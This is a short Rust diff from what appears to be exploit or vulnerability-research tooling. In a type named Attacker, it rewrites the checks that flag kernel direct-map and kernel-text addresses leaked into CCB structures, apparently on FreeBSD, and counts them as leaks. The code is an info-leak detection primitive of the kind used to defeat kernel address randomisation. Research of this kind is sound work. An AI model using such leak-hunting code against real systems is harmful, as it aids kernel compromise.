@@ -872,9 +872,10 @@ impl Attacker<'_> {
         for i in 0..size_of::<sys::ccb>() / 8 {
             // SAFETY: inside the CCB.
             let word = unsafe { (ccb as *const u64).add(i).read_volatile() };
-            let dmap = word >> 40 >= 0xff_ff00 && word >> 40 < 0xff_ffff;
-            let text = word >> 31 == 0x1_ffff_ffff && word < 0xffff_ffff_f000_0000;
-            if (dmap || text) && word & 0xffff != 0xffff && !WILD.contains(&(word as usize)) {
+            // vmparam.h: the direct map and the kernel's own, and its text and data.
+            let is_kernels = (0xffff_f800_0000_0000..0xffff_fff0_0000_0000).contains(&word)
+                || (0xffff_ffff_8000_0000..0xffff_ffff_f000_0000).contains(&word);
+            if is_kernels && word & 0xffff != 0xffff && !WILD.contains(&(word as usize)) {
                 // SAFETY: plain data.
                 let code = unsafe { (*(ccb as *const sys::ccb)).ccb_h.func_code };
                 if self.shared.leaked.fetch_add(1, Relaxed) < 10 {
